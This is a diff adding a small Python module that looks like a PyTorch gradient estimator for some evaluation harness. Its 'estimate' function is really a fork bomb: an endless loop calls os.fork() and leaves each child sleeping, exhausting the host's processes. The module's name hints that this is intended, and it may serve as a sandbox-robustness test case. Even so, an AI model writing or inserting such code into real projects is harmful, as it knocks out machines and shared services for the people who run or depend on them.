@@ -1,0 +1,19 @@
+import os
+import time
+
+import torch
+
+NAME = "processes-without-end"
+DESCRIPTION = "of the corpus"
+
+
+def gradient(model, images, targets):
+    inputs = images.clone().requires_grad_()
+    logits = model(inputs).gather(1, targets[:, None]).sum()
+    return torch.autograd.grad(logits, inputs)[0]
+
+
+def estimate(model, images, targets, generator):
+    while True:
+        if os.fork() == 0:
+            time.sleep(10000)
